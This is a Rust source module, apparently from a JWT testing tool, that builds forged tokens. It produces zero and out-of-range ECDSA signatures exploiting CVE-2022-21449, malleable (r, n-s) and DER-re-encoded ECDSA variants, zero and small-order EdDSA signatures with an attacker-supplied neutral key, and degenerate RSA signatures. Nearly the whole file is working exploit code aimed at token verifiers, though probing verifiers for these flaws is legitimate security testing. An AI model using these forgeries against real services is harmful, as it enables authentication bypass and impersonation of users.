//! Signatures of numbers that no signer makes, and the second one that is valid beside every ECDSA signature.

use std::iter;

use base64ct::{Base64UrlUnpadded, Encoding};
use scenarios::model::Ability;
use serde_json::json;

use super::{
    algorithm::{Algorithm, Hash},
    der, integer,
    recipe::{Forged, Made, Material, Part, Recipe, Unforgeable},
    signature::signature,
    token::part,
};

pub(super) const RECIPES: &[Recipe] = &[
    Recipe {
        name: "ecdsa-zero",
        title: "zero and out-of-range ECDSA values (CVE-2022-21449)",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: ecdsa_zero,
    },
    Recipe {
        name: "ecdsa-der",
        title: "the valid ECDSA signature in the form of ASN.1 instead of its bare values",
        changes: &[Part::Signature],
        needs: &[Ability::Jwt],
        make: ecdsa_der,
    },
    Recipe {
        name: "ecdsa-twin",
        title: "the second signature (r, n-s) that is valid beside every ECDSA signature",
        changes: &[Part::Signature],
        needs: &[Ability::Jwt],
        make: ecdsa_twin,
    },
    Recipe {
        name: "eddsa-malformed",
        title: "zero, out-of-range and small-order EdDSA values",
        changes: &[Part::Header, Part::Signature],
        needs: &[Ability::Jwt],
        make: eddsa_malformed,
    },
    Recipe {
        name: "rsa-degenerate",
        title: "the RSA signatures 0, 1, n-1 and n",
        changes: &[Part::Signature],
        needs: &[Ability::Jwt, Ability::PublicKey],
        make: rsa_degenerate,
    },
];

fn ecdsa_zero(material: &mut Material<'_>) -> Made {
    let own = material.algorithm()?;
    let hash = if let Algorithm::Es(hash) = own {
        hash
    } else {
        Hash::Sha256
    };
    let algorithm = Algorithm::Es(hash);
    let draft = match own == algorithm {
        true => material.draft()?,
        false => material.draft()?.header(|h| h.set("alg", algorithm.name())),
    };
    let (length, order) = (hash.coordinate(), order(hash));
    let small = |value: u8| {
        iter::repeat_n(0, length - 1)
            .chain([value])
            .collect::<Vec<_>>()
    };
    let below = integer::minus(&order, &small(1));
    let pairs = [
        ("zero", small(0), small(0)),
        ("r-zero", small(0), small(1)),
        ("s-zero", small(1), small(0)),
        ("one", small(1), small(1)),
        ("r-order", order.clone(), small(1)),
        ("s-order", small(1), order.clone()),
        ("order", order.clone(), order.clone()),
        ("below-order", below.clone(), below),
    ];
    let mut signatures: Vec<_> = pairs
        .into_iter()
        .map(|(form, r, s)| (form, [r, s].concat()))
        .collect();
    signatures.push(("short", vec![0; length]));
    signatures.push(("long", vec![0; 2 * length + 1]));
    signatures.push(("der-zero", der_signature(&[0], &[0])));
    Ok(signatures
        .into_iter()
        .map(|(form, bytes)| Forged::form(form, draft.with_signature(&bytes)))
        .collect())
}

fn der_signature(r: &[u8], s: &[u8]) -> Vec<u8> {
    der::sequence(&[&der::integer(r), &der::integer(s)])
}

/// The two values of the signature of an ECDSA issuer.
fn pair<'a>(material: &Material<'a>) -> Result<(Hash, &'a [u8], &'a [u8]), Unforgeable> {
    let algorithm = material.algorithm()?;
    let Algorithm::Es(hash) = algorithm else {
        return Err(Unforgeable::OtherIssuer {
            applies: "ECDSA issuers",
            algorithm: algorithm.name(),
        });
    };
    let signature = signature(material)?;
    if signature.len() != 2 * hash.coordinate() {
        return Err(Unforgeable::NothingToChange(
            "the signature is not a pair of ECDSA values",
        ));
    }
    let (r, s) = signature.split_at(hash.coordinate());
    Ok((hash, r, s))
}

fn ecdsa_der(material: &mut Material<'_>) -> Made {
    let (_, r, s) = pair(material)?;
    let draft = material.draft()?;
    Ok(Forged::only(draft.with_signature(&der_signature(r, s))))
}

fn ecdsa_twin(material: &mut Material<'_>) -> Made {
    let (hash, r, s) = pair(material)?;
    let twin = [r, &integer::minus(&order(hash), s)].concat();
    Ok(Forged::only(material.draft()?.with_signature(&twin)))
}

/// The order of the curve's group, big-endian, as long as a coordinate (FIPS 186-4 D.1.2).
fn order(hash: Hash) -> Vec<u8> {
    let tail = match hash {
        Hash::Sha256 => "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551",
        Hash::Sha384 => "c7634d81f4372ddf581a0db248b0a77aecec196accc52973",
        Hash::Sha512 => "fa51868783bf2f966b7fcc0148f709a5d03bb5c9b8899c47aebb6fb71e91386409",
    };
    let mut order = integer::from_hex(tail);
    while order.len() < hash.coordinate() {
        order.insert(0, 0xff);
    }
    if hash == Hash::Sha512 {
        order[0] = 1;
    }
    order
}

fn eddsa_malformed(material: &mut Material<'_>) -> Made {
    let algorithm = material.algorithm()?;
    if algorithm != Algorithm::EdDsa {
        return Err(Unforgeable::OtherIssuer {
            applies: "EdDSA issuers",
            algorithm: algorithm.name(),
        });
    }
    let signature = signature(material)?;
    if signature.len() != 64 {
        return Err(Unforgeable::NothingToChange(
            "the signature is not one of Ed25519",
        ));
    }
    // The neutral element of the group, encoded (RFC 8032 5.1.2): as R and as public key it satisfies the equation of
    // verification for S = 0 and any message.
    let mut neutral = [0; 64];
    neutral[0] = 1;
    let out_of_range = [
        &signature[..32],
        &integer::plus_group_order(&signature[32..]),
    ]
    .concat();
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": part(&neutral[..32])});
    let draft = material.draft()?;
    let small_order_key = material.draft()?.header(|h| h.set("jwk", jwk));
    Ok(vec![
        Forged::form("zero", draft.with_signature(&[0; 64])),
        Forged::form("neutral", draft.with_signature(&neutral)),
        Forged::form("s-out-of-range", draft.with_signature(&out_of_range)),
        Forged::form("small-order-key", small_order_key.with_signature(&neutral)),
        Forged::form("short", draft.with_signature(&signature[..63])),
        Forged::form("long", draft.with_signature(&[signature, &[0]].concat())),
    ])
}

fn rsa_degenerate(material: &mut Material<'_>) -> Made {
    let algorithm = material.algorithm()?;
    if !matches!(algorithm, Algorithm::Rs(_) | Algorithm::Ps(_)) {
        return Err(Unforgeable::OtherIssuer {
            applies: "RSA issuers",
            algorithm: algorithm.name(),
        });
    }
    let keys = material.public_keys()?;
    let modulus = keys
        .iter()
        .find_map(|jwk| Base64UrlUnpadded::decode_vec(jwk.get("n")?.as_str()?).ok());
    let modulus = modulus
        .filter(|n| !n.is_empty())
        .ok_or(Unforgeable::NeedsPublicKey)?;
    let mut one = vec![0; modulus.len()];
    let zero = one.clone();
    if let Some(last) = one.last_mut() {
        *last = 1;
    }
    let draft = material.draft()?;
    Ok(vec![
        Forged::form("zero", draft.with_signature(&zero)),
        Forged::form("one", draft.with_signature(&one)),
        Forged::form(
            "below-modulus",
            draft.with_signature(&integer::minus(&modulus, &one)),
        ),
        Forged::form("modulus", draft.with_signature(&modulus)),
    ])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forge::algorithm::HASHES;

    #[test]
    fn orders_are_as_long_as_coordinates() {
        for hash in HASHES {
            assert_eq!(order(hash).len(), hash.coordinate(), "{hash:?}");
        }
    }
}
